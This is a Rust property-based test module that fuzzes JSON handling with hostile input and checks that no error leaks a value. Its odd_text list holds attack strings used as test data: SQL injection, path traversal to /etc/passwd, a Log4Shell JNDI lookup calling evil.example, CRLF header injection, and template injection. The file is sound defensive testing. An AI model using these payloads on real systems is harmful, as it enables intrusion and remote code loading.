//! Hostile and odd input: nothing makes a function panic or hang, and no error holds a value.
//!
//! `PROPTEST_CASES` has each property tried as often as it says.

mod answers;
mod documents;
mod events;
mod reply;
mod sizes;
mod templates;

use std::fmt::{Debug, Display};
use std::sync::mpsc;
use std::time::Duration;

use proptest::collection::{btree_map, vec};
use proptest::prelude::*;
use serde_json::{Value, json};

/// Begins every value that no error may hold.
const CANARY: &str = "canary_";

/// So many cases, unless `PROPTEST_CASES` says otherwise.
fn cases(count: u32) -> ProptestConfig {
    let config = ProptestConfig {
        failure_persistence: None,
        ..ProptestConfig::default()
    };
    match std::env::var_os("PROPTEST_CASES") {
        Some(_) => config,
        None => ProptestConfig {
            cases: count,
            ..config
        },
    }
}

/// Runs something that takes a moment, and fails if it takes as long as no invocation has.
fn at_once<T: Send + 'static>(work: impl FnOnce() -> T + Send + 'static) -> T {
    let (done, result) = mpsc::channel();
    let working = std::thread::spawn(move || done.send(work()));
    match result.recv_timeout(Duration::from_mins(1)) {
        Ok(result) => result,
        Err(mpsc::RecvTimeoutError::Timeout) => panic!("it hangs"),
        Err(mpsc::RecvTimeoutError::Disconnected) => {
            std::panic::resume_unwind(working.join().expect_err("it panicked"))
        }
    }
}

fn assert_without_values(error: &(impl Display + Debug)) {
    for text in [error.to_string(), format!("{error:?}")] {
        let shown = text.find(CANARY).map(|at| &text[at..]);
        assert_eq!(shown, None, "a value is in: {text}");
    }
}

/// Any JSON, of every type and some depth, its texts in every script.
fn any_json() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        any::<u64>().prop_map(Value::from),
        any::<f64>().prop_map(Value::from),
        ".{0,40}".prop_map(Value::from),
        odd_text().prop_map(Value::from),
    ];
    leaf.prop_recursive(4, 24, 4, |inner| {
        prop_oneof![
            vec(inner.clone(), 0..4).prop_map(Value::from),
            btree_map(".{0,12}", inner, 0..4).prop_map(|map| json!(map)),
        ]
    })
}

/// Texts that have broken something somewhere.
fn odd_text() -> impl Strategy<Value = String> {
    prop::sample::select(vec![
        "",
        " ",
        "\0",
        "\u{feff}",
        "\u{202e}txt.exe",
        "e\u{301}",
        "\r\nHost: evil.example",
        "пароль",
        "密码",
        "كلمة السر",
        "🔑🔑",
        "'; DROP ROLE postgres; --",
        "../../../etc/passwd",
        "${jndi:ldap://evil.example/}",
        "{{ password }}",
        "{% for a in 'x' * 99999999 %}{{ a }}{% endfor %}",
        "arn:aws:secretsmanager:::secret:",
        "\\ud800",
        "18446744073709551616",
    ])
    .prop_map(str::to_owned)
}

/// What is done to a JSON text.
#[derive(Clone, Debug)]
enum Change {
    /// Another value at one of its places.
    Replace(usize, Value),
    Remove(usize),
    /// One more field of the name of an existing one, or another: JSON allows both.
    Insert(usize, String, Value),
}

fn changes() -> impl Strategy<Value = Vec<Change>> {
    let change = prop_oneof![
        4 => (any::<usize>(), any_json()).prop_map(|(at, value)| Change::Replace(at, value)),
        1 => any::<usize>().prop_map(Change::Remove),
        1 => (any::<usize>(), ".{0,8}", any_json())
            .prop_map(|(at, name, value)| Change::Insert(at, name, value)),
    ];
    vec(change, 1..4)
}

/// All places within, each before those inside it.
fn places(value: &Value, path: &str, found: &mut Vec<String>) {
    found.push(path.to_owned());
    let mut within = |name: &str, value: &Value| {
        let name = name.replace('~', "~0").replace('/', "~1");
        places(value, &format!("{path}/{name}"), found);
    };
    match value {
        Value::Object(map) => map.iter().for_each(|(name, value)| within(name, value)),
        Value::Array(items) => (0..).zip(items).for_each(|(index, value): (usize, _)| {
            within(&index.to_string(), value);
        }),
        Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => {}
    }
}

fn changed(mut value: Value, changes: Vec<Change>) -> Value {
    for change in changes {
        let mut found = Vec::new();
        places(&value, "", &mut found);
        let place = |at: usize| found[at % found.len()].clone();
        match change {
            Change::Replace(at, new) => {
                if let Some(old) = value.pointer_mut(&place(at)) {
                    *old = new;
                }
            }
            Change::Remove(at) => {
                let place = place(at);
                let Some((parent, name)) = place.rsplit_once('/') else {
                    continue;
                };
                let name = name.replace("~1", "/").replace("~0", "~");
                if let Some(Value::Object(map)) = value.pointer_mut(parent) {
                    map.remove(&name);
                }
            }
            Change::Insert(at, name, new) => {
                if let Some(Value::Object(map)) = value.pointer_mut(&place(at)) {
                    map.insert(name, new);
                }
            }
        }
    }
    value
}
